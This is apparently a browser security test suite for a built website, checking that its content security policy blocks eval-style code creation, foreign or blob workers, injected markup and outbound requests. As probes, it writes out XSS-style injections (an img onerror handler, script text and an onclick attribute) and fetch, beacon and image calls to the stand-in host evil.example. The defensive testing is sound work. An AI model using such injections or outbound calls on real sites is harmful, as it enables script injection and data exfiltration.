// The built site on a host without headers and on our own: no policy is violated on any page, no page or worker
// can make code of text, nothing leaves the origin. Workers are found in the build, so a new one is tested too.

import assert from 'node:assert/strict';
import { mkdir, writeFile } from 'node:fs/promises';
import { filesUnder, inCheckout } from '../../scripts/checkout.mjs';
import { serveDumbly } from '../lib/dumb-host.mjs';
import { journey } from '../lib/journey.mjs';

const built = filesUnder(['build']).map((path) => path.replace(/^build/, '').replaceAll('\\', '/'));
const pages = built
	.filter((path) => path.endsWith('.html') && path !== '/404.html')
	.map((path) => path.replace(/\/index\.html$/, '/').replace(/\.html$/, ''));
const workers = built.filter((path) => /\.worker[^/]*\.js$/.test(path));

/**
 * Runs in a page or a worker: each way to make code of text that worked. In a task of its own, because the
 * policy is off in the very call with which a debugger evaluates something.
 */
const tryToMakeCode = () =>
	new Promise((done) => {
		const generator = Object.getPrototypeOf(function* () {}).constructor;
		const ways = {
			eval: () => (0, eval)('40 + 2'),
			Function: () => new Function('return 42')(),
			GeneratorFunction: () => generator('yield 42')().next().value
		};
		const worked = (make) => {
			try {
				return make() === 42;
			} catch {
				return false;
			}
		};
		setTimeout(() => {
			done(Object.keys(ways).filter((way) => worked(ways[way])));
		});
	});

/** Starts the worker script in the page and tries in there. */
async function tryInWorker(page, url) {
	const [worker] = await Promise.all([
		page.waitForEvent('worker', (started) => started.url().endsWith(url)),
		page.evaluate((path) => {
			globalThis.probes = [...(globalThis.probes ?? []), new Worker(path, { type: 'module' })];
		}, url)
	]);
	const made = await worker.evaluate(tryToMakeCode);
	await page.evaluate(() => globalThis.probes.pop().terminate());
	return made;
}

/** Opens a page and waits until its first code ran: the Trusted Types policy is there. */
async function openGuarded(device, url) {
	await device.open(url);
	await device.page.waitForFunction(() => globalThis.trustedTypes?.defaultPolicy);
}

const BLOCKED_CODE =
	/unsafe-eval|Evaluating a string|TrustedScript|trusted-types|require-trusted-types-for/;
const expectBlocked = (device) => device.problems.allow(BLOCKED_CODE);

await journey('security', async (j) => {
	const plainRoot = inCheckout('test-results/security/plain');

	await j.step('the probe notices where text can become code', async () => {
		await mkdir(plainRoot, { recursive: true });
		await writeFile(
			`${plainRoot}/index.html`,
			'<!doctype html><link rel="icon" href="data:,"><title>plain</title>'
		);
		await writeFile(`${plainRoot}/plain.worker.js`, 'self.onmessage = () => {};');
		const plain = await serveDumbly(plainRoot);
		const device = await j.device('plain');
		await device.open(plain.url);
		const all = ['eval', 'Function', 'GeneratorFunction'];
		assert.deepEqual(await device.page.evaluate(tryToMakeCode), all);
		assert.deepEqual(await tryInWorker(device.page, '/plain.worker.js'), all);
		await device.close();
		await plain.stop();
	});

	const dumb = await serveDumbly(inCheckout('build'));
	const own = await j.site();

	await j.step('the build has pages and workers to look at', () => {
		assert.ok(pages.length >= 1, 'no page');
		assert.ok(workers.length >= 1, 'no worker');
	});

	for (const [host, url] of [
		['a host without headers', dumb.url],
		['our own host', own.url]
	]) {
		const device = await j.device(host);
		await device.open(url);
		await j.step(`${host}: the service worker takes over on the first visit`, () =>
			device.controlled()
		);

		for (const path of pages)
			await j.check(`${host}: ${path} violates no policy`, async () => {
				await device.open(url + path);
				await device.page.waitForLoadState('networkidle');
				assert.deepEqual(device.problems.violations, []);
			});

		await openGuarded(device, url);
		expectBlocked(device);
		await j.check(`${host}: text never becomes code in the page`, async () => {
			assert.deepEqual(await device.page.evaluate(tryToMakeCode), []);
		});
		for (const path of workers) {
			const name = /([a-z-]+)\.worker/.exec(path)?.[1] ?? path;
			await j.check(`${host}: text never becomes code in the ${name} worker`, async () => {
				assert.deepEqual(await tryInWorker(device.page, path), []);
			});
		}
		await j.check(`${host}: no worker from another origin, from a blob or from data`, async () => {
			device.problems.allow(/Worker|worker-src|worker/);
			const refused = await device.page.evaluate(async () => {
				const blob = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
				const started = await Promise.all(
					['https://evil.example/x.js', blob, 'data:text/javascript,postMessage(1)'].map(
						(from) =>
							new Promise((done) => {
								try {
									const worker = new Worker(from);
									worker.onmessage = () => done(from);
									worker.onerror = () => done(null);
									setTimeout(() => done(null), 1_000);
								} catch {
									done(null);
								}
							})
					)
				);
				return started.filter((from) => from !== null);
			});
			assert.deepEqual(refused, []);
		});
		await j.check(`${host}: markup from text brings no script into the page`, async () => {
			device.problems.allow(/TrustedHTML|inline|TrustedScript|script-src|Refused to/);
			const ran = await device.page.evaluate(async () => {
				const place = document.createElement('div');
				document.body.append(place);
				const tries = [
					() => (place.innerHTML = '<img src="/nothing.png" onerror="globalThis.pwned = 1">'),
					() => {
						const script = document.createElement('script');
						script.text = 'globalThis.pwned = 1';
						place.append(script);
					},
					() => place.setAttribute('onclick', 'globalThis.pwned = 1') ?? place.click()
				];
				for (const attempt of tries)
					try {
						attempt();
					} catch {
						// refused
					}
				await new Promise((soon) => setTimeout(soon, 500));
				place.remove();
				return globalThis.pwned ?? 0;
			});
			device.problems.allow(/nothing\.png/);
			assert.equal(ran, 0);
		});
		await j.check(`${host}: no request leaves the origin`, async () => {
			device.problems.allow(/connect-src|img-src|evil\.example/);
			const left = new Set();
			const isOutside = (request) => request.url().includes('evil.example');
			device.page.on('request', (request) => isOutside(request) && left.add(request.url()));
			device.page.on('requestfailed', (request) => {
				if (request.failure()?.errorText === 'csp') left.delete(request.url());
			});
			await device.page.evaluate(() =>
				Promise.allSettled([
					fetch('https://evil.example/'),
					Promise.resolve(navigator.sendBeacon('https://evil.example/')),
					new Promise((done) => {
						const image = new Image();
						image.onload = image.onerror = done;
						image.src = 'https://evil.example/x.png';
					})
				])
			);
			await new Promise((soon) => setTimeout(soon, 300));
			assert.deepEqual([...left], []);
		});
	}

	await j.check('our own host: workers are safe before the service worker is there', async () => {
		const device = await j.device('without service worker', { serviceWorkers: 'block' });
		device.problems.allow(/[Ss]ervice ?[Ww]orker/);
		expectBlocked(device);
		await openGuarded(device, own.url);
		for (const path of workers) assert.deepEqual(await tryInWorker(device.page, path), [], path);
	});

	await j.check('our own host: no other site may frame a page', async () => {
		for (const path of pages) {
			const { headers } = await fetch(own.url + path);
			assert.match(headers.get('content-security-policy') ?? '', /frame-ancestors 'none'/, path);
		}
	});

	await j.check('our own host: packed files go out as they are', async () => {
		const packed = built.find((path) => path.endsWith('.wasm.gz') && !path.endsWith('.gz.gz'));
		if (!packed || built.includes(packed.replace(/\.gz$/, ''))) return;
		const { headers } = await fetch(own.url + packed);
		assert.equal(headers.get('content-type'), 'application/gzip');
		assert.equal(headers.get('content-encoding'), null);
	});

	await dumb.stop();
});
